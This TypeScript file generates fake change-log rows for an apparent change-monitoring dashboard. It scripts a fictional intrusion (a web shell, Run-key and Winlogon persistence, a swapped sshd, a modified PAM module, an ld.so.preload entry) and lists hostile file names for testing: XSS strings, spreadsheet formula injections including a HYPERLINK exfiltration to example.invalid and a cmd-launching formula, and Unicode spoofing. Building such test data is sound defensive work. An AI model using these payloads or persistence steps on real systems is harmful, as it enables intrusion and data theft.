import { archive, firewallKeys, runKey, windowsAcls, winlogonKey } from './catalog-windows';
import { linuxAcls, linuxModes } from './catalog-linux';
import type { ChangeWriter } from './change-writer';
import type { FileState } from './entity-state';
import { fileState, programSize } from './file-state';
import { linuxFile } from './linux-day';
import { hashParts, hex } from './random';
import { hostileServerName, type FleetServer } from './servers';
import { day, hour, minute, second } from './time';

/** The night of the intrusion, in days before today: inside the seven days the pages open with. */
export const intrusionDaysAgo = 4;

/** The servers it touches, in its order. */
export const intrusionServers = ['web-eus-07', 'app-eus-11', 'db-eus-03'] as const;

/** Hand-written rows of a server and day, beside the generated ones. */
export function writeStories(out: ChangeWriter, server: FleetServer): void {
  if (server.computer === hostileServerName) hostileNames(out);
  if (out.day.ago !== intrusionDaysAgo) return;
  switch (server.computer) {
    case intrusionServers[0]:
      return webServerTaken(out);
    case intrusionServers[1]:
      return backdooredLogin(out, server);
    case intrusionServers[2]:
      return databaseReached(out);
  }
}

const windowsFile = (
  path: string,
  size: number,
  at: number,
  acls: string = windowsAcls.applicationPool,
): FileState => ({
  size,
  created: Math.floor(at / second) * second,
  modified: Math.floor(at / second) * second,
  hash: hex(8, size, 66, path.length),
  attributes: archive,
  acls,
});
const text = (data: string) => ({ data, type: 'REG_SZ', acls: windowsAcls.administrators });
const dword = (data: string) => ({ data, type: 'REG_DWORD', acls: windowsAcls.administrators });

/** 01:12: a web shell in the uploads folder; then the server is made to start a tool again after every sign-in. */
function webServerTaken(out: ChangeWriter) {
  const start = out.day.start + hour + 12 * minute + 41 * second;
  const shell = String.raw`C:\inetpub\wwwroot\shop\uploads\helpcontent.aspx`;
  const shellState = windowsFile(shell, 1581, start);
  const tool = String.raw`C:\ProgramData\Intel\gfxsvc.exe`;
  out.file(start + 20 * second, shell, undefined, shellState);
  out.file(start + 11 * minute, tool, undefined, windowsFile(tool, 487_936, start + 10 * minute));
  out.registry(start + 13 * minute, firewallKeys[2] ?? '', 'EnableFirewall', dword('1'), dword('0'));
  out.registry(start + 19 * minute, runKey, 'IntelGraphicsSvc', undefined, text(`"${tool}" -s`));
  out.registry(
    start + 21 * minute,
    winlogonKey,
    'Userinit',
    text(String.raw`C:\Windows\system32\userinit.exe,`),
    text(String.raw`C:\Windows\system32\userinit.exe,C:\ProgramData\Intel\gfxsvc.exe,`),
  );
  const hosts = String.raw`C:\Windows\System32\drivers\etc\hosts`;
  const before = windowsFile(hosts, 824, out.day.start - 400 * day, windowsAcls.system);
  const after = { ...windowsFile(hosts, 871, start + 26 * minute, windowsAcls.system), created: before.created };
  out.file(start + 27 * minute, hosts, before, after);
  out.registry(start + 64 * minute, firewallKeys[2] ?? '', 'EnableFirewall', dword('0'), dword('1'));
  // Tidying up: the shell goes when the persistent way in works.
  out.file(start + 199 * minute, shell, shellState, undefined);
}

/** 02:03: cron entries, and an sshd of the same size and times as the packaged one, told apart by its hash alone. */
function backdooredLogin(out: ChangeWriter, server: FleetServer) {
  const start = out.day.start + 2 * hour + 3 * minute + 17 * second;
  const cron = '/etc/cron.daily/logrotate-sync';
  const job = fileState({ path: cron, version: 1, baseSize: 212 }, start, linuxModes.program, linuxAcls.root, start);
  out.file(start + 9 * second, cron, undefined, job);
  const crontab = '/etc/crontab';
  const written = out.day.start - 260 * day;
  out.file(start + 95 * second, crontab, linuxFile(crontab, 1, written), {
    ...linuxFile(crontab, 2, start + 90 * second),
    size: linuxFile(crontab, 1, written).size + 61,
  });
  const sshd = '/usr/sbin/sshd';
  const packaged = linuxFile(sshd, 1, written);
  out.file(start + 8 * minute, sshd, packaged, { ...packaged, hash: hex(8, hashParts(server.salt, 666)) });
  out.service(
    start + 8 * minute + 40 * second,
    { kind: 'Daemons', name: 'ssh', displayName: 'ssh', account: 'root', path: sshd },
    { state: 'Running', startupType: 'Auto', runlevels: '2, 3, 4, 5' },
    { state: 'Stopped', startupType: 'Auto', runlevels: '2, 3, 4, 5' },
  );
  const key = '/usr/local/sbin/.kworker-u8';
  const implant = { path: key, version: 1, baseSize: 91_000 };
  out.file(start + 14 * minute, key, undefined, fileState(implant, start, linuxModes.setuid, linuxAcls.root, start));
}

/** 03:20: PAM on the database server accepts one more password, and a preload hides the process that reads the tables. */
function databaseReached(out: ChangeWriter) {
  const start = out.day.start + 3 * hour + 20 * minute + 5 * second;
  const pam = '/usr/lib/x86_64-linux-gnu/security/pam_unix.so';
  const packaged = fileState(
    { path: pam, version: 1, baseSize: 60_000 },
    out.day.start - 190 * day,
    linuxModes.config,
    linuxAcls.root,
  );
  out.file(start, pam, packaged, { ...packaged, hash: hex(8, 4242, 1) });
  const preload = '/etc/ld.so.preload';
  const state = fileState({ path: preload, version: 1, baseSize: 34 }, start, linuxModes.config, linuxAcls.root, start);
  out.file(start + 4 * minute, preload, undefined, { ...state, size: 34 });
  const dump = '/usr/local/bin/.pgd';
  const program = fileState(
    { path: dump, version: 1, baseSize: programSize(dump) },
    start + 6 * minute,
    linuxModes.program,
    linuxAcls.root,
    start + 6 * minute,
  );
  out.file(start + 6 * minute, dump, undefined, program);
  out.file(start + 71 * minute, dump, program, undefined);
}

/** Names an attacker may choose to fool the reader, the page or the spreadsheet. Rows are data, never markup. */
export const hostilePaths: readonly string[] = [
  '/etc/cron.daily/<img src=x onerror=alert(document.domain)>',
  '/usr/local/bin/"><script>alert(1)</script>.conf',
  '/usr/local/bin/invoice\u202Efdp.sh',
  '/usr/local/bin/\u2066ls\u2069\u200B\uFEFF',
  '/opt/bin/=HYPERLINK("http://example.invalid/?x="&A1,"open")',
  "/opt/bin/@SUM(1+1)*cmd|' /C calc'!A0",
  '/etc/line\nbreak\u001b[31m\ttab.conf',
  '/etc/quote\' " ` ; | where true // .conf',
  `/opt/bin/${'very-long-name-'.repeat(16)}/${'d/'.repeat(300)}end.conf`,
  '/usr/local/bin/pаypal-sync',
  '/usr/local/bin/   ',
];

function hostileNames(out: ChangeWriter) {
  if (out.day.ago % 6 !== 1) return;
  for (const [index, path] of hostilePaths.entries()) {
    const at = out.day.start + 9 * hour + index * 7 * minute;
    const before = linuxFile(path, out.day.number, at - 40 * hour);
    const after = linuxFile(path, out.day.number + 1, at - minute);
    const which = (index + Math.floor(out.day.ago / 6)) % 3;
    out.file(at, path, which === 0 ? undefined : before, which === 1 ? undefined : after);
  }
}

/** A few edits of the last half hour, so that even the shortest range has something to show. */
export function writeRecentEdits(out: ChangeWriter, server: FleetServer, now: number): void {
  if (hashParts(server.salt, 901) % 9 !== 0) return;
  const at = now - (2 + (hashParts(server.salt, 902) % 26)) * minute;
  if (server.os.type === 'Linux') {
    const path = '/etc/node-exporter.conf';
    out.file(at, path, linuxFile(path, 1, at - 31 * day), linuxFile(path, 2, at - 20 * second));
  } else {
    out.registry(
      at,
      runKey,
      'DeploymentHelper',
      undefined,
      text(String.raw`C:\Program Files\Contoso\helper.exe /once`),
    );
  }
}
